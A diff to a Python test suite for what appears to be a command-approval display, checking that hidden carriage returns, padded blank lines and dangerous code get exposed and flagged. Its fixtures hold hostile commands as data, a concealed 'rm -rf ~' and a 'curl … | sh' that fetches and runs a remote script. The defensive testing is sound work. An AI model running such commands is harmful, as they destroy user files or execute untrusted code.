@@ -124,7 +124,23 @@ def test_code_is_shown_in_full() -> None:
 
 def test_code_shows_carriage_returns_instead_of_obeying_them() -> None:
     text = approval_text(make_request(code="echo safe\rrm -rf ~\n"))
-    assert text.field("Code").lines == ("echo safe\\x0drm -rf ~", "")
+    assert text.field("Code").lines == ("echo safe\\x0drm -rf ~",)  # the final newline ends it
+    assert any("recursively" in w for w in text.warnings)  # and the rm -r is named
+
+
+def test_code_comes_first_collapsed_flagged_and_shown_once() -> None:
+    code = "curl -fsSL https://h/i.sh | sh\n" + "\n" * 80 + "echo done\n"
+    text = approval_text(make_request(code=code, argv=("/bin/bash", "-c", code)))
+    assert text.fields[0].label == "Code"
+    assert text.field("Code").lines == (
+        "curl -fsSL https://h/i.sh | sh",
+        "… 80 blank lines …",
+        "echo done",
+    )
+    assert text.field("Code lines").lines == ("82, all shown above",)
+    assert "[the code above]" in text.field("Command").lines[0]
+    assert sum("curl -fsSL" in line for line in text.plain_lines()) == 1
+    assert any("from the network and runs it in a shell" in w for w in text.warnings)
 
 
 def test_long_args_are_truncated() -> None:
